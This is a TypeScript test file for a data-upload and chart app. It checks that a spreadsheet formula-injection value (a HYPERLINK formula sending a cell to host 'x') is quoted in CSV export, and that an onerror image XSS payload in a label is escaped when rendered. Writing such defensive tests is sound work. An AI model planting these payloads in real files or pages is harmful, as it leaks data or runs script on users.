import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import type { LineModel } from "../../src/chart/buildLineModel";
import { adopt } from "../../src/dataset/adopt";
import { EMPTY_DATASET, observationAt } from "../../src/dataset/dataset";
import { proposeDecisions } from "../../src/dataset/proposeDecisions";
import { surveyTexts } from "../../src/dataset/surveyTexts";
import type { Upload } from "../../src/dataset/upload";
import { toCsv } from "../../src/export/toCsv";
import { packUpload } from "../../src/library/packUpload";
import { unpackUpload } from "../../src/library/unpackUpload";
import { LineLegend } from "../../src/view/LineLegend";
import { catalogueOf } from "../support/catalogue";
import { figure, tableModel, tableRow } from "../support/tableModel";
import { utf8 } from "./bytes";
import { trapBytes } from "./trapFiles";
import { areaOf, runImport } from "./trapRun";

/** The file as it is kept after every proposal was taken as it stands. */
function keep(bytes: Uint8Array, fileName: string): Upload {
  const { built } = runImport(bytes, fileName);
  const catalogue = catalogueOf({});
  const known = { catalogue, matches: new Map<string, string>(), fileName, today: "2026-11-23" };
  const decisions = proposeDecisions(surveyTexts(built), known);
  const now = "2026-11-23T12:00:00Z";
  const context = { catalogue, shipped: EMPTY_DATASET, id: "own-abcdefgh", now, fileNames: [fileName] };
  return adopt(built, decisions, context).upload;
}

/** Saved as a package and read again. */
function throughZip(upload: Upload): Upload {
  const { upload: back, issues } = unpackUpload(packUpload(upload));
  if (!back) throw new Error(JSON.stringify(issues));
  return back;
}

const namesOf = ({ places }: Upload) => places.map(({ name }) => name.en);

function exported(names: readonly string[]): string[] {
  const rows = names.map((name, i) => tableRow(name, [figure(-5 + i)], { place: String(i) }));
  return toCsv(tableModel(rows), rows, []).split("\r\n").slice(1, -1);
}

describe("what leaves the page", () => {
  it("41-formula: a formula is quoted, a number is not", () => {
    const names = runImport(trapBytes("41-formula")).observations.map(areaOf);
    const [formula, number] = exported(names);
    expect(formula).toContain(`"'=HYPERLINK(""http://x/?""&A1)"`);
    expect(formula?.split(",")[2]).toBe("-5");
    expect(number?.split(",")[1]).toBe("-5");
    const upload = keep(trapBytes("41-formula"), "names.csv");
    expect(namesOf(upload)).toContain('=HYPERLINK("http://x/?"&A1)');
    expect(namesOf(throughZip(upload))).toEqual(namesOf(upload));
  });

  it("43-neg-zero-json: what is missing stays apart from 0", () => {
    const upload = keep(utf8("geo;jaar;v\nA;2020;-0\nB;2020;NaN\nC;2020;0\n"), "zero.csv");
    for (const kept of [upload, throughZip(upload), structuredClone(upload)]) {
      const rows = Array.from({ length: kept.dataset.rows }, (_, row) => observationAt(kept.dataset, row));
      expect(rows.map(({ value, gap }) => (gap === null ? value + 0 : "missing"))).toEqual([0, "missing", 0]);
    }
  });

  it("45-html-label: a tag in a label is a text", () => {
    const label = "<img src=x onerror=alert(1)>";
    const upload = keep(trapBytes("45-html-label"), "labels.csv");
    expect(namesOf(upload)).toContain(label);
    expect(namesOf(throughZip(upload))).toEqual(namesOf(upload));
    expect(exported([label])[0]?.split(",")[1]).toBe(label);
    const end = { point: { value: 1 }, text: "1.0" };
    const model = { y: { reversed: false }, lines: [{ place: "own", slot: 1, name: label, end }] };
    const markup = renderToStaticMarkup(<LineLegend model={model as unknown as LineModel} />);
    expect(markup).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(markup).not.toContain("<img");
  });
});
